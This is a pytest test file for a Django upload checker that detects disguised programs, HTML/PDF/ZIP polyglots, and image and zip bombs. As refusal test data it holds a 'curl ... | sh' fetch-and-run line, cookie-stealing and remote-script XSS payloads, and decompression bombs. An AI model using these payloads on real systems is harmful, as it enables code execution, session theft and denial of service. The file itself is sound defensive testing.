"""Content checks of uploads (forms_engine.filecheck): the type by content, programs
disguised as documents, polyglots, archive and image bombs; each refusal says what was
wrong and what would be accepted, reading a bounded part of the file whatever its size."""

from __future__ import annotations

import io

import pytest
from django.utils import translation

from forms_engine import archives, filecheck
from forms_engine.filecheck import check
from forms_engine.filecheck.source import BLOCK_SIZE
from tests.factories import pdf_bytes, png_bytes
from tests.filesamples import (
    docx_bytes,
    elf_bytes,
    heic_bytes,
    heic_sequence_bytes,
    jpeg_bytes,
    overlapping_zip,
    pdf_with,
    png_claiming,
    program_bytes,
    zip_bytes,
    zip_of_zeros,
)

PHOTOS = ("pdf", "jpeg", "png", "heic")


class CountingFile(io.BytesIO):
    def __init__(self, data: bytes):
        super().__init__(data)
        self.bytes_read = 0

    def read(self, size=-1):
        chunk = super().read(size)
        self.bytes_read += len(chunk)
        return chunk


def inspect(data: bytes, name: str, accept=PHOTOS) -> str:
    with translation.override("en"):
        return filecheck.inspect(io.BytesIO(data), name, len(data), accept)


def refusal(data: bytes, name: str, accept=PHOTOS, language: str = "en") -> filecheck.FileRefused:
    with translation.override(language), pytest.raises(filecheck.FileRefused) as refused:
        filecheck.inspect(io.BytesIO(data), name, len(data), accept)
    return refused.value


# ------------------------------------------------------------------------ what passes


@pytest.mark.parametrize(
    ("data", "name", "kind"),
    [
        (pdf_bytes(), "申請書.pdf", "pdf"),
        (png_bytes(40, 30), "scan.png", "png"),
        (jpeg_bytes(), "IMG_0001.JPG", "jpeg"),
        (jpeg_bytes(8064, 6048), "48MP.jpg", "jpeg"),  # a 48-megapixel phone photo
        (heic_bytes(), "IMG_0001.HEIC", "heic"),
        (heic_bytes(8064, 6048), "IMG_48MP.HEIC", "heic"),
        (heic_bytes(meta_last=True), "IMG_0002.HEIC", "heic"),
        (heic_sequence_bytes(), "IMG_0003.HEIC", "heic"),
        (pdf_with(b"<x:xmpmeta><rdf:RDF></rdf:RDF></x:xmpmeta>"), "xmp.pdf", "pdf"),
    ],
    ids=[
        "pdf",
        "png",
        "jpeg",
        "jpeg-48mp",
        "iphone-heic",
        "heic-48mp",
        "heic-meta-last",
        "heic-sequence",
        "xmp",
    ],
)
def test_documents_and_photos_from_phones_pass(data, name, kind):
    assert inspect(data, name) == kind


def test_a_docx_is_told_by_its_members_and_an_ordinary_zip_passes():
    assert inspect(docx_bytes(), "report.docx", ["docx"]) == "docx"
    assert inspect(zip_bytes({"a.txt": b"hello" * 1000}), "a.zip", ["zip"]) == "zip"


def test_a_text_file_that_happens_to_start_with_mz_is_text():
    assert inspect(b"MZ-2024 meeting notes\n", "notes.txt", ["txt"]) == "txt"


# ------------------------------------------------------------------ types and programs


def test_a_pdf_that_is_really_a_windows_program_is_refused_as_a_program():
    refused = refusal(program_bytes(), "申請書.pdf")
    assert refused.reason == "executable"
    assert "申請書.pdf is a program" in refused.message
    assert "Accepted: PDF, JPEG, PNG, HEIC." in refused.message


def test_a_linux_program_and_a_script_are_refused_as_programs():
    assert refusal(elf_bytes(), "report.pdf").reason == "executable"
    script = b"#!/bin/sh\ncurl http://example.invalid | sh\n"
    assert refusal(script, "memo.txt", ["txt"]).reason == "executable"


def test_a_file_of_another_type_is_named_with_what_would_be_accepted():
    refused = refusal(docx_bytes(), "report.pdf", ["pdf"])
    assert refused.reason == "type"
    assert refused.message == "report.pdf is a file of type DOCX. Accepted: PDF."


def test_the_refusal_is_in_the_residents_language():
    refused = refusal(program_bytes(), "申請書.pdf", language="ja")
    assert "申請書.pdf" in refused.message
    assert "プログラム" in refused.message
    assert "PDF, JPEG, PNG, HEIC" in refused.message


# ------------------------------------------------------------------------- polyglots


@pytest.mark.parametrize(
    "data",
    [
        pdf_with(b"<html><body><script>alert(document.cookie)</script></body></html>"),
        pdf_with(b"<!DOCTYPE html><p>hi"),
        pdf_with(b"<SCRIPT src=//evil.example/x.js></SCRIPT>", at_end=True),
        pdf_with(b"<svg onload=alert(1)>"),
    ],
    ids=["html-early", "doctype", "script-at-the-end", "svg"],
)
def test_a_pdf_that_carries_html_is_refused(data):
    refused = refusal(data, "scan.pdf")
    assert refused.reason == "polyglot"
    assert "web page code" in refused.message
    assert "Accepted: PDF, JPEG, PNG, HEIC." in refused.message


def test_a_jpeg_that_is_also_html_is_refused():
    data = jpeg_bytes(comment=b"<html><script>alert(1)</script></html>")
    refused = refusal(data, "photo.jpg")
    assert refused.reason == "polyglot"


def test_a_png_with_html_in_a_text_chunk_is_refused():
    png = png_bytes(4, 4)
    text = b"tEXtComment\x00<iframe src=//evil.example>"
    import struct
    import zlib

    chunk = struct.pack(">I", len(text) - 4) + text + struct.pack(">I", zlib.crc32(text))
    data = png[:33] + chunk + png[33:]
    assert refusal(data, "scan.png").reason == "polyglot"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (pdf_bytes() + zip_bytes({"payload.exe": b"MZ" + b"\x00" * 100}), "scan.pdf"),
        (jpeg_bytes() + zip_bytes({"a.js": b"x"}), "photo.jpg"),
        (png_bytes(4, 4) + zip_bytes({"a.js": b"x"}), "scan.png"),
    ],
    ids=["zip-after-pdf", "zip-after-jpeg", "zip-after-png"],
)
def test_a_zip_appended_to_a_document_or_photo_is_refused(data, name):
    refused = refusal(data, name)
    assert refused.reason == "polyglot"
    assert "ZIP" in refused.message


def test_a_photo_with_a_pdf_inside_its_first_kilobyte_is_refused():
    data = jpeg_bytes(comment=b"%PDF-1.4 1 0 obj<<>>endobj")
    refused = refusal(data, "photo.jpg")
    assert refused.reason == "polyglot"
    assert "PDF" in refused.message


def test_a_zip_of_pdfs_is_not_taken_for_a_polyglot():
    data = zip_bytes({"scan.pdf": pdf_bytes()}, compression=0)
    assert inspect(data, "scans.zip", ["zip"]) == "zip"


# ----------------------------------------------------------------------- image bombs


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (png_claiming(100_000, 100_000), "bomb.png"),
        (jpeg_bytes(65_000, 65_000), "bomb.jpg"),
        (heic_bytes(100_000, 100_000, tile=100_000), "bomb.heic"),
        (heic_sequence_bytes(30_000, 30_000), "burst.heic"),
    ],
    ids=["png", "jpeg", "heic", "heic-sequence"],
)
def test_a_picture_that_claims_too_many_pixels_is_refused_from_its_header(data, name):
    assert len(data) < 200_000  # small on disk: the claim is all there is
    refused = refusal(data, name)
    assert refused.reason == "image_too_large"
    assert "100 million pixels" in refused.message


def test_the_pixel_budget_is_100_megapixels():
    assert inspect(png_claiming(10_000, 10_000), "ok.png") == "png"
    assert refusal(png_claiming(10_000, 10_001), "over.png").reason == "image_too_large"


def test_a_heic_whose_tiles_add_up_to_a_bomb_is_refused():
    # Every item under the budget on its own; the tiles of a 14,000 x 14,000 grid not.
    data = heic_bytes(14_000, 14_000, tile=512)
    assert refusal(data, "tiles.heic").reason == "image_too_large"


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (heic_bytes(with_sizes=False), "nosize.heic"),
        (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9", "a.jpg"),
        (png_claiming(0, 10), "zero.png"),
    ],
    ids=["heic-without-ispe", "jpeg-without-frame", "png-of-zero-width"],
)
def test_a_picture_whose_size_cannot_be_read_is_refused(data, name):
    assert refusal(data, name).reason == "image_unreadable"


# --------------------------------------------------------------------- archive bombs


def test_an_archive_whose_members_overlap_is_refused_as_a_bomb():
    refused = refusal(overlapping_zip(), "report.docx", ["docx"])
    assert refused.reason == "archive"
    assert "zip bomb" in refused.message


def test_an_archive_that_expands_a_thousandfold_is_refused():
    data = zip_of_zeros(150)  # 150 MB of zeros in about 150 kB
    assert len(data) < 1024 * 1024
    refused = refusal(data, "report.docx", ["docx"])
    assert refused.reason == "archive"
    assert "2GB" in refused.message


def test_an_archive_declaring_more_than_the_expansion_budget_is_refused(monkeypatch):
    monkeypatch.setattr(archives, "MAX_EXPANDED_BYTES", 1_000_000)
    data = zip_bytes({"word/document.xml": b"x" * 600_000, "b.bin": bytes(range(256)) * 2000})
    with pytest.raises(archives.ArchiveRefused) as refused:
        archives.members(io.BytesIO(data), max_expanded_bytes=1_000_000)
    assert refused.value.reason == "expands_too_much"


def test_the_members_and_their_sizes_are_those_zipfile_reads():
    import zipfile

    data = zip_bytes({"word/document.xml": b"<w:document/>" * 50, "写真/犬.png": png_bytes()})
    expected = [
        (i.filename, i.compress_size, i.file_size, i.header_offset)
        for i in zipfile.ZipFile(io.BytesIO(data)).infolist()
    ]
    found = [
        (m.name, m.compressed_size, m.size, m.offset) for m in archives.members(io.BytesIO(data))
    ]
    assert found == expected


# ---------------------------------------------------------------------- bounded reads


def test_a_large_file_is_checked_from_its_head_and_tail_only():
    data = pdf_bytes()[:-6] + b"\n" + b"0" * (20 * 1024 * 1024) + b"\n%%EOF\n"
    f = CountingFile(data)
    assert filecheck.inspect(f, "big.pdf", len(data), ["pdf"]) == "pdf"
    assert f.bytes_read <= check.HEAD_BYTES + check.TAIL_BYTES + 2 * BLOCK_SIZE


def test_an_empty_file_is_refused_with_what_would_be_accepted():
    refused = refusal(b"", "empty.pdf", ["pdf"])
    assert refused.reason == "empty"
    assert refused.message == "empty.pdf is empty. Accepted: PDF."
